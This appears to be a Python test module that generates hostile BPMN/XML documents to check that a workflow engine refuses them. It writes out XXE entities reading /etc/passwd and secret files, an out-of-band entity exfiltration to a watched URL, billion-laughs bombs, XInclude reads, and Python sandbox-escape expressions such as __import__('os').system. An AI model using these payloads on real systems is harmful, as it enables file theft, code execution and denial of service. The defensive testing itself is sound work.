"""Hostile BPMN/XML documents, generated at test time (nothing hostile is checked in).

Every document is a *recipe*: a name that reads as a sentence in the test report, the element the
refusal must name (when the problem belongs to one element), and a ``build(canary)`` that returns
the bytes.  Builders get the :class:`~tests.engine.hostile.documents.Canary` so that payloads point at
things the test watches: a secret file, a named pipe (opening it is detected), a local TCP port
(connecting is detected) and a directory in which nothing may appear.

Most documents are :func:`~tests.engine.hostile.documents.valid_bpmn` with exactly one hostile change.
Documents the engine still accepts live in :mod:`tests.engine.hostile.gaps`, each behind an xfail.
"""

from __future__ import annotations

import gzip
import io
import random
import zipfile
from typing import Callable, Iterator
from xml.sax.saxutils import escape

from tests.engine.hostile.documents import (BPMN_NS, EXPRESSION_SLOTS, SLOT_ELEMENT, SPIFF_NS, XI_NS, Canary,
                                            Hostile, camunda_bpmn, changed, encode, valid_bpmn, with_prolog)


def _doctypes() -> Iterator[Hostile]:
    entity_doc = {"documentation": "&xxe;"}
    lol = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    variants: dict[str, tuple[Callable[[Canary], str], dict]] = {
        "plain": (lambda c: "<!DOCTYPE bpmn:definitions>", {}),
        "lower-case": (lambda c: "<!doctype bpmn:definitions>", {}),
        "mixed-case": (lambda c: "<!DocType bpmn:definitions>", {}),
        "with-whitespace": (lambda c: "<!DOCTYPE\n\t  bpmn:definitions   \n>", {}),
        "empty-internal-subset": (lambda c: "<!DOCTYPE bpmn:definitions []>", {}),
        "internal-entity": (lambda c: '<!DOCTYPE bpmn:definitions [<!ENTITY xxe "injected">]>', entity_doc),
        "external-system-etc-passwd": (
            lambda c: '<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', entity_doc),
        "external-system-secret-file": (
            lambda c: f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "file://{c.secret_file}">]>', entity_doc),
        "external-system-fifo": (
            lambda c: f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "file://{c.fifo}">]>', entity_doc),
        "external-system-http": (
            lambda c: f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "{c.url}">]>', entity_doc),
        "external-public-http": (
            lambda c: f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe PUBLIC "-//EVIL//X" "{c.url}">]>', entity_doc),
        "external-dtd-system": (lambda c: f'<!DOCTYPE bpmn:definitions SYSTEM "{c.url}">', {}),
        "external-dtd-public-fifo": (
            lambda c: f'<!DOCTYPE bpmn:definitions PUBLIC "-//EVIL//X" "file://{c.fifo}">', {}),
        "parameter-entity-http": (
            lambda c: f'<!DOCTYPE bpmn:definitions [<!ENTITY % p SYSTEM "{c.url}"> %p;]>', {}),
        "parameter-entity-fifo": (
            lambda c: f'<!DOCTYPE bpmn:definitions [<!ENTITY % p SYSTEM "file://{c.fifo}"> %p;]>', {}),
        "parameter-entity-exfiltration": (
            lambda c: ('<!DOCTYPE bpmn:definitions [<!ENTITY % file SYSTEM "file://' + str(c.secret_file) + '">'
                       '<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'' + c.url + '?%file;\'>"> %wrap; %send;]>'),
            {}),
        "billion-laughs": (lambda c: '<!DOCTYPE bpmn:definitions [<!ENTITY l0 "lol">' + lol + "]>",
                           {"documentation": "&l9;"}),
        "quadratic-blowup": (
            lambda c: '<!DOCTYPE bpmn:definitions [<!ENTITY q "' + "x" * 20_000 + '">]>',
            {"documentation": "&q;" * 2_000}),
    }
    for name, (prolog, slots) in variants.items():
        for encoding in ("utf-8", "utf-16", "utf-7"):
            yield Hostile(f"doctype/{name}/{encoding}", with_prolog(prolog, encoding, **slots), category="doctype")
    for encoding in ("utf-8-bom", "utf-16-be-bom", "utf-32"):
        yield Hostile(f"doctype/external-system-fifo/{encoding}",
                      with_prolog(variants["external-system-fifo"][0], encoding, **entity_doc), category="doctype")
    stray = {
        "stray-entity-declaration": "<!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
        "stray-element-declaration": "<!ELEMENT bpmn:definitions ANY>",
        "stray-attlist-declaration": "<!ATTLIST bpmn:definitions evil CDATA 'x'>",
        "doctype-after-a-comment": "<!-- harmless --><!DOCTYPE bpmn:definitions>",
        "doctype-with-space-after-bang": "<! DOCTYPE bpmn:definitions>",
    }
    for name, prolog in stray.items():
        yield Hostile(f"doctype/{name}", with_prolog(lambda c, p=prolog: p), category="doctype")
    yield Hostile("doctype/undeclared-entity-reference", changed(documentation="&xxe;"), category="doctype")
    yield Hostile("doctype/entity-reference-in-a-condition", changed(condition="&xxe;"), category="doctype")


def _xinclude() -> Iterator[Hostile]:
    def include(href: Callable[[Canary], str], parse: str = "xml") -> Callable[[Canary], str]:
        return lambda c: f'<xi:include xmlns:xi="{XI_NS}" href="{href(c)}" parse="{parse}"/>'
    targets = {
        "etc-passwd": lambda c: "file:///etc/passwd",
        "secret-file": lambda c: f"file://{c.secret_file}",
        "fifo": lambda c: f"file://{c.fifo}",
        "http": lambda c: c.url,
    }
    for target, href in targets.items():
        yield Hostile(f"xinclude/in-the-process/{target}",
                      changed(extra_process=lambda c, h=href: include(h, "text")(c)), category="xinclude")
        yield Hostile(f"xinclude/at-the-root/{target}", changed(extra_root=lambda c, h=href: include(h)(c)),
                      category="xinclude")
    yield Hostile("xinclude/as-the-root-element",
                  lambda c: f'<?xml version="1.0"?><xi:include xmlns:xi="{XI_NS}" href="file://{c.fifo}"/>'.encode(),
                  category="xinclude")
    yield Hostile("xinclude/with-xpointer",
                  changed(extra_process=lambda c: f'<xi:include xmlns:xi="{XI_NS}" href="file://{c.fifo}" '
                                               f'xpointer="xpointer(//*)"/>'), category="xinclude")


def _processing_instructions() -> Iterator[Hostile]:
    base = lambda: valid_bpmn()  # noqa: E731
    cases: dict[str, Callable[[Canary], bytes]] = {
        "xml-declaration-twice": lambda c: ('<?xml version="1.0"?>\n' + base()).encode(),
        "xml-declaration-after-whitespace": lambda c: ("\n  " + base()).encode(),
        "xml-declaration-after-a-comment": lambda c: ("<!-- x -->" + base()).encode(),
        "xml-declaration-inside-the-document": lambda c: valid_bpmn(
            extra_process='<?xml version="1.0"?>').encode(),
        "upper-case-xml-target": lambda c: base().replace("<?xml ", "<?XML ", 1).encode(),
        "unterminated-pi": lambda c: valid_bpmn(extra_process="<?evil never closed").encode(),
        "pi-hiding-a-doctype": lambda c: valid_bpmn(
            prolog=f'\n<?evil <!DOCTYPE x [<!ENTITY y SYSTEM "file://{c.fifo}">]> ?>').encode(),
        "pi-with-no-target": lambda c: valid_bpmn(extra_process="<? ?>").encode(),
        "stylesheet-pi-with-doctype": lambda c: valid_bpmn(
            prolog=f'\n<?xml-stylesheet type="text/xsl" href="file://{c.fifo}"?>\n<!DOCTYPE x>').encode(),
    }
    for name, build in cases.items():
        yield Hostile(f"pi/{name}", build, category="pi")
    yield Hostile("pi/pi-splitting-a-dunder-call", changed(condition="__import__<?x?>('os')"), element="to_assess",
                  category="pi")


def _sizes() -> Iterator[Hostile]:
    def nested(depth: int) -> Callable[[Canary], bytes]:
        def build(canary: Canary) -> bytes:
            return valid_bpmn(extension="<x>" * depth + "</x>" * depth).encode()
        return build

    def flat(count: int) -> Callable[[Canary], bytes]:
        def build(canary: Canary) -> bytes:
            return valid_bpmn(extension="<x/>" * count).encode()
        return build

    yield Hostile("size/nested-10000-levels", nested(10_000), category="size")
    yield Hostile("size/nested-300-levels", nested(300), category="size")
    yield Hostile("size/nested-70-levels-inside-bpmn", nested(70), category="size")
    yield Hostile("size/100000-elements", flat(100_000), category="size")
    yield Hostile("size/50001-elements", flat(50_001), category="size")
    yield Hostile("size/one-byte-over-5-MiB",
                  lambda c: _pad_to(valid_bpmn().encode(), 5 * 1024 * 1024 + 1), category="size")
    yield Hostile("size/nested-10000-levels-at-the-root",
                  lambda c: (b"<a>" * 10_000 + b"</a>" * 10_000), category="size")


def _pad_to(document: bytes, size: int) -> bytes:
    comment_overhead = len(b"<!---->")
    return document + b"<!--" + b" " * (size - len(document) - comment_overhead) + b"-->"


def _encodings() -> Iterator[Hostile]:
    valid = valid_bpmn()
    text_at = valid.index("A small process")
    invalid_utf8 = {
        "overlong-slash": b"\xc0\xaf",
        "lone-continuation-byte": b"\x80",
        "truncated-sequence": b"\xe4\xb8",
        "utf16-surrogate": b"\xed\xa0\x80",
        "byte-ff": b"\xff",
        "five-byte-sequence": b"\xf8\x88\x80\x80\x80",
    }
    for name, junk in invalid_utf8.items():
        yield Hostile(f"encoding/invalid-utf8-{name}-in-text",
                      lambda c, j=junk: valid[:text_at].encode() + j + valid[text_at:].encode(), category="encoding")
    yield Hostile("encoding/invalid-utf8-in-an-attribute",
                  lambda c: valid.replace('name="Hostile base"', 'name="H\udcff"').encode("utf-8", "surrogateescape"),
                  category="encoding")
    yield Hostile("encoding/invalid-utf8-in-an-element-name",
                  lambda c: valid.replace("<bpmn:documentation>", "<bpmn:docu\udcc0mentation>", 1)
                  .encode("utf-8", "surrogateescape"), category="encoding")
    yield Hostile("encoding/control-character-in-text", lambda c: valid.replace("A small", "A \x01small").encode(),
                  category="encoding")
    yield Hostile("encoding/nul-character-reference", changed(documentation="&#0;"), category="encoding")
    yield Hostile("encoding/control-character-reference", changed(documentation="&#x1;"), category="encoding")
    yield Hostile("encoding/nul-byte-after-the-first-4-KiB",
                  lambda c: valid.replace("A small", "A" * 5000 + "\x00").encode(), category="encoding")
    yield Hostile("encoding/declared-utf16-but-utf8", lambda c: valid.replace('"UTF-8"', '"UTF-16"').encode(),
                  category="encoding")
    yield Hostile("encoding/unknown-encoding", lambda c: valid.replace('"UTF-8"', '"X-EVIL-7"').encode(),
                  category="encoding")
    yield Hostile("encoding/latin1-declared-but-bytes-are-utf16",
                  lambda c: valid.replace('"UTF-8"', '"ISO-8859-1"').encode("utf-16-le"), category="encoding")
    yield Hostile("encoding/utf16-without-bom", lambda c: valid.replace('"UTF-8"', '"UTF-16"').encode("utf-16-le"),
                  category="encoding")
    yield Hostile("encoding/ebcdic", lambda c: valid.replace('"UTF-8"', '"IBM037"').encode("cp037", "replace"),
                  category="encoding")
    boms = {
        "bom-only": lambda c: b"\xef\xbb\xbf",
        "double-utf8-bom": lambda c: b"\xef\xbb\xbf\xef\xbb\xbf" + valid.encode(),
        "utf16le-bom-with-utf8-bytes": lambda c: b"\xff\xfe" + valid.encode(),
        "utf16be-bom-with-utf8-bytes": lambda c: b"\xfe\xff" + valid.encode(),
        "utf32-bom-with-utf8-bytes": lambda c: b"\xff\xfe\x00\x00" + valid.encode(),
        "utf16-bom-odd-length": lambda c: valid.encode("utf-16")[:-1],
        "utf16-bom-then-binary": lambda c: b"\xff\xfe" + bytes(range(256)) * 8,
        "utf8-bom-then-doctype": with_prolog(lambda c: "<!DOCTYPE x>", "utf-8-bom"),
        "utf16-bom-then-non-bpmn-root": lambda c: '<?xml version="1.0" encoding="UTF-16"?><evil/>'.encode("utf-16"),
    }
    for name, build in boms.items():
        yield Hostile(f"encoding/{name}", build, category="encoding")


def _junk() -> Iterator[Hostile]:
    rng = random.Random(20260302)
    valid = valid_bpmn().encode()
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("process.bpmn", valid)
    cases: dict[str, bytes] = {
        "empty-file": b"",
        "whitespace-only": b" \n\t\r\n  ",
        "a-single-angle-bracket": b"<",
        "nul-bytes": b"\x00" * 1024,
        "ff-bytes": b"\xff" * 1024,
        "png-header": b"\x89PNG\r\n\x1a\n" + bytes(rng.getrandbits(8) for _ in range(512)),
        "gzip-of-a-valid-bpmn": gzip.compress(valid),
        "zip-of-a-valid-bpmn": zipped.getvalue(),
        "elf-header": b"\x7fELF\x02\x01\x01" + bytes(rng.getrandbits(8) for _ in range(512)),
        "pdf-header": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        "json": b'{"process": "hostile", "tasks": []}',
        "yaml": b"process: hostile\ntasks:\n  - review\n",
        "html": b"<!doctype html><html><body><script>alert(1)</script></body></html>",
        "plain-text": "这不是一个流程文件。".encode(),
        "half-a-valid-bpmn": valid[: len(valid) // 2],
        "valid-bpmn-with-trailing-garbage": valid + b"<trailing/>",
        "two-root-elements": valid + valid.split(b"?>", 1)[1],
    }
    for i in range(8):
        cases[f"random-bytes-{i}"] = bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 4096)))
    for i in range(4):
        cases[f"random-printable-{i}"] = "".join(rng.choice("<>/=\"' abc:!?[]&;#x") for _ in range(2000)).encode()
    for name, data in cases.items():
        yield Hostile(f"junk/{name}", lambda c, d=data: d, category="junk")


def _roots() -> Iterator[Hostile]:
    roots = {
        "html": "<html><body>no</body></html>",
        "svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "definitions-without-namespace": '<definitions id="d"><process id="p"/></definitions>',
        "bpmn-process-as-root": f'<bpmn:process xmlns:bpmn="{BPMN_NS}" id="p"/>',
        "wrong-namespace-uri": '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/2.0" id="d"/>',
        "dmn-definitions": '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="x"/>',
        "cmmn-definitions": '<definitions xmlns="http://www.omg.org/spec/CMMN/20151109/MODEL" id="d"/>',
        "spiff-namespace-root": f'<spiffworkflow:definitions xmlns:spiffworkflow="{SPIFF_NS}"/>',
    }
    for name, body in roots.items():
        yield Hostile(f"root/{name}", lambda c, b=body: ('<?xml version="1.0"?>' + b).encode(), category="root")
    yield Hostile("root/definitions-without-any-process",
                  lambda c: (f'<?xml version="1.0"?><bpmn:definitions xmlns:bpmn="{BPMN_NS}" id="d" '
                             'targetNamespace="x"/>').encode(), category="root")
    yield Hostile("root/only-a-collaboration",
                  lambda c: (f'<?xml version="1.0"?><bpmn:definitions xmlns:bpmn="{BPMN_NS}" id="d" '
                             'targetNamespace="x"><bpmn:collaboration id="c"/></bpmn:definitions>').encode(),
                  category="root")


def _schema() -> Iterator[Hostile]:
    v = valid_bpmn()
    cases = {
        "unknown-bpmn-element": v.replace('<bpmn:endEvent id="end_done">',
                                          '<bpmn:teleport id="t"/><bpmn:endEvent id="end_done">'),
        "duplicate-ids": v.replace('id="end_reminded"', 'id="review"').replace(">end_reminded<", ">review<"),
        "flow-without-target": v.replace('<bpmn:sequenceFlow id="f5" sourceRef="vote" targetRef="end_done"/>',
                                         '<bpmn:sequenceFlow id="f5" sourceRef="vote"/>'),
        "id-starting-with-a-digit": v.replace('id="end_done"', 'id="1end"').replace(">end_done<", ">1end<"),
        "id-with-a-space": v.replace('id="end_done"', 'id="end done"'),
        "boolean-attribute-not-boolean": v.replace('cancelActivity="false"', 'cancelActivity="maybe"'),
        "is-executable-yes": v.replace('isExecutable="true"', 'isExecutable="yes"'),
        "unknown-attribute": v.replace('<bpmn:process id="hostile"', '<bpmn:process onload="alert(1)" id="hostile"'),
        "user-task-outside-a-process": v.replace(
            'targetNamespace="http://jishijiu.test/hostile">',
            'targetNamespace="http://jishijiu.test/hostile"><bpmn:userTask id="loose"/>'),
        "script-outside-a-script-task": v.replace("<bpmn:incoming>f4</bpmn:incoming>",
                                                  "<bpmn:script>x = 1</bpmn:script><bpmn:incoming>f4</bpmn:incoming>"),
        "elements-out-of-order": v.replace("<bpmn:incoming>f2</bpmn:incoming><bpmn:outgoing>f3</bpmn:outgoing>",
                                           "<bpmn:outgoing>f3</bpmn:outgoing><bpmn:incoming>f2</bpmn:incoming>"),
        "empty-process-id": v.replace('<bpmn:process id="hostile"', '<bpmn:process id=""'),
        "two-loop-characteristics-with-a-non-numeric-maximum": v.replace(
            "<bpmn:multiInstanceLoopCharacteristics>",
            '<bpmn:standardLoopCharacteristics loopMaximum="lots"/><bpmn:multiInstanceLoopCharacteristics>'),
        "loop-data-input-ref-is-code": v.replace(
            "<bpmn:loopCardinality>3</bpmn:loopCardinality>",
            "<bpmn:loopDataInputRef>__import__('os').system('id')</bpmn:loopDataInputRef>"),
    }
    for name, text in cases.items():
        assert text != v, name
        yield Hostile(f"schema/{name}", lambda c, t=text: t.encode(), category="schema")


def _references() -> Iterator[Hostile]:
    v = valid_bpmn()
    cases = {
        "flow-to-a-missing-node": (v.replace('targetRef="end_done"', 'targetRef="nowhere"'), None),
        "default-flow-that-does-not-exist": (v.replace('default="to_refused"', 'default="nowhere"'), None),
        "call-activity-to-a-missing-process": (
            v.replace("<bpmn:sequenceFlow id=\"f5\" sourceRef=\"vote\" targetRef=\"end_done\"/>",
                      '<bpmn:sequenceFlow id="f5" sourceRef="vote" targetRef="call"/>'
                      '<bpmn:callActivity id="call" calledElement="nowhere"><bpmn:incoming>f5</bpmn:incoming>'
                      '<bpmn:outgoing>f6</bpmn:outgoing></bpmn:callActivity>'
                      '<bpmn:sequenceFlow id="f6" sourceRef="call" targetRef="end_done"/>')
            .replace("<bpmn:incoming>f5</bpmn:incoming></bpmn:endEvent>",
                     "<bpmn:incoming>f6</bpmn:incoming></bpmn:endEvent>"), None),
        "message-event-with-an-undefined-message": (
            v.replace('<bpmn:endEvent id="end_done"><bpmn:incoming>f5</bpmn:incoming></bpmn:endEvent>',
                      '<bpmn:endEvent id="end_done"><bpmn:incoming>f5</bpmn:incoming>'
                      '<bpmn:messageEventDefinition id="m" messageRef="nowhere"/></bpmn:endEvent>'), None),
    }
    for name, (text, element) in cases.items():
        assert text != v, name
        yield Hostile(f"reference/{name}", lambda c, t=text: t.encode(), element=element, category="reference")


# Expression payloads, each refused by the deploy-time check.  Eval payloads go into eval slots
# (and as ``x = payload`` into script slots); statements only into script slots.
EVAL_ESCAPES = [
    "__import__('os').system('touch {created}')",
    "open('{secret}').read()",
    "open('{created}', 'w')",
    "().__class__.__base__.__subclasses__()",
    "[].__class__.__mro__[1].__subclasses__()",
    "''.__class__.__mro__[-1].__subclasses__()[0].__init__.__globals__",
    "getattr(1, '__class__')",
    "eval('1+1')",
    "exec('import os')",
    "compile('1', 'f', 'eval')",
    "globals()",
    "vars()",
    "__builtins__",
    "type(1)",
    "breakpoint()",
    "setattr(people, 'x', 1)",
    "lambda: 1",
    "(lambda: __import__('os'))()",
    "[x for x in people]",
    "{x: 1 for x in people}",
    "sum(x for x in people)",
    'f"{().__class__}"',
    'f"{people.__class__.__mro__}"',
    'f"{1:>999999999}"',
    "f\"{income:{'>'}{'9'*9}}\"",
    "'{0.__class__}'.format(1)",
    "income.__class__",
    "decimal.__globals__",
    "now.__globals__['__builtins__']",
    "people['__class__']",
    "people.__getitem__(0)",
    "(x := 1)",
    "[*people]",
    "{**people}",
    "b'bytes'",
    "people.pop()",
    "income.zfill(10**9)",
    "income if True else __import__('os')",
    "max(people, key=lambda p: p)",
    "[" * 100 + "1" + "]" * 100,
    "'x' * 1 if False else 1 + ",
]
STATEMENT_ESCAPES = [
    "import os",
    "from os import system",
    "while True:\n    pass",
    "for i in people:\n    x = i",
    "def f():\n    return 1",
    "class A:\n    pass",
    "x = 1\nos = __import__('os')",
    "people.x = 1",
    "__builtins__ = {}",
    "global x\nx = 1",
    "try:\n    x = 1\nexcept Exception:\n    pass",
    "with open('{secret}') as f:\n    x = 1",
    "assert False",
    "raise SystemExit",
    "del __builtins__",
    "x = 1; import os",
]
# Constant expressions whose cost the deploy-time check does not bound (they fail safely at run
# time; see the xfail test).
CONSTANT_BOMBS = ["9**9**9", "'a'*10**10", "[1]*10**9", "1<<10**6", "2**4096**2", "'x'.join(['a'] * 10**6)"]


def payload_text(template: str, canary: Canary) -> str:
    return template.replace("{created}", str(canary.created)).replace("{secret}", str(canary.secret_file))


def escaped_slot(slot: str, template: str) -> Callable[[Canary], str]:
    def text(canary: Canary) -> str:
        value = payload_text(template, canary)
        return escape(value, {'"': "&quot;"}) if slot == "param" else escape(value)
    return text


def _expressions() -> Iterator[Hostile]:
    for i, payload in enumerate(EVAL_ESCAPES):
        for slot, (mode, element) in EXPRESSION_SLOTS.items():
            if mode == "exec":
                yield Hostile(f"eval-escape/{slot}/{i:02d}", changed(**{slot: escaped_slot(slot, "x = " + payload)}),
                              element=element, category="expression")
            elif slot in ("condition", "param") or i % 3 == 0:  # every escape in two slots, a third in all
                yield Hostile(f"eval-escape/{slot}/{i:02d}", changed(**{slot: escaped_slot(slot, payload)}),
                              element=element, category="expression")
    for i, statement in enumerate(STATEMENT_ESCAPES):
        for slot in ("script", "pre_script"):
            yield Hostile(f"statement-escape/{slot}/{i:02d}", changed(**{slot: escaped_slot(slot, statement)}),
                          element=SLOT_ELEMENT[slot], category="expression")
        yield Hostile(f"statement-escape/condition/{i:02d}", changed(condition=escaped_slot("condition", statement)),
                      element="to_assess", category="expression")


def _timers() -> Iterator[Hostile]:
    for i, timer in enumerate(["2026-13-45", "P99999999999D", "99999999999WD", "PT99999999999999H", "2026-02-30",
                               "2026-03-19T25:00", "P1000000D"]):
        yield Hostile(f"timer-literal/{i}-{timer}", changed(timer=timer), element="remind", category="timer")
    yield Hostile("timer-literal/empty", changed(timer=""), element="remind", category="timer")
    yield Hostile("timer-literal/blank", changed(timer="   "), element="remind", category="timer")


def _lanes_and_roles() -> Iterator[Hostile]:
    for i, role in enumerate(["root", "ADMIN", "admin ", "caseworker;admin", "system", "乡镇经办",
                              "caseworker,approver", "<script>"]):
        yield Hostile(f"role/lane-role-{i}-{role.encode('unicode_escape').decode()[:20]}",
                      changed(role=escape(role, {'"': "&quot;"})), element="lane_main", category="role")
    yield Hostile("role/empty-lane-role-falls-back-to-a-chinese-lane-name", changed(role=""), element="lane_main",
                  category="role")
    no_lanes = valid_bpmn()
    start, end = no_lanes.index("    <bpmn:laneSet"), no_lanes.index("</bpmn:laneSet>") + len("</bpmn:laneSet>")
    yield Hostile("role/human-task-in-no-lane", lambda c: (no_lanes[:start] + no_lanes[end:]).encode(),
                  element="review", category="role")
    for i, group in enumerate(["root", "caseworker approver", "${initiator}", ""]):
        yield Hostile(f"role/camunda-candidate-group-{i}",
                      lambda c, g=group: camunda_bpmn(candidate_groups=g).encode(), element="check", category="role")


def _operations() -> Iterator[Hostile]:
    for i, op in enumerate(["os.system", "subprocess.run", "test.gap ", "TEST.GAP", "test.gap.extra", "test",
                            "__import__", "dibao.assess", "builtins.eval", "test.gap\n"]):
        yield Hostile(f"operation/unknown-{i}-{op.strip().replace('.', '-') or 'blank'}",
                      changed(operation=escape(op).replace("\n", "&#10;")), element="assess", category="operation")
    yield Hostile("operation/empty-operation-id", changed(operation=""), element="assess", category="operation")
    for i, topic in enumerate(["os.system", "", "dibao.assess"]):
        yield Hostile(f"operation/camunda-topic-{i}-{topic.replace('.', '-') or 'blank'}",
                      lambda c, t=topic: camunda_bpmn(topic=t).encode(), element="assess", category="operation")


# dueIn is a literal (ISO 8601, working days, a date) or an expression over the task data, so only
# values that are neither can be refused at deploy time.
MALFORMED_DUE = ["3 weeks", "P-1D", "PT1H;DROP TABLE process_definition", "99999999999WD", "P1000000D", "1e9D",
                 "P1.5.5D", "2026-13-45", "2026-02-30", "2026-03-19T25:00", "__import__('os')", "PT1H junk",
                 "P99999999999Y", "R3/PT1H", "().__class__", "[x for x in people]", "lambda: 'P1D'"]


def _due() -> Iterator[Hostile]:
    for i, due in enumerate(MALFORMED_DUE):
        yield Hostile(f"due-in/{i:02d}-{due.encode('unicode_escape').decode()[:24]}",
                      changed(due_in=escape(due, {'"': "&quot;"})), element="review", category="due")
    for i, due in enumerate(["P-1D", "10 days", "99999999999WD"]):
        yield Hostile(f"due-in/camunda-property-{i}", lambda c, d=due: camunda_bpmn(due_in=d).encode(),
                      element="check", category="due")


def hostile_documents() -> list[Hostile]:
    """Every hostile document; names are unique."""
    docs = [*_doctypes(), *_xinclude(), *_processing_instructions(), *_sizes(), *_encodings(), *_junk(),
            *_roots(), *_schema(), *_references(), *_expressions(), *_timers(), *_lanes_and_roles(), *_operations(),
            *_due()]
    names = [d.name for d in docs]
    duplicates = {n for n in names if names.count(n) > 1}
    assert not duplicates, duplicates
    return docs
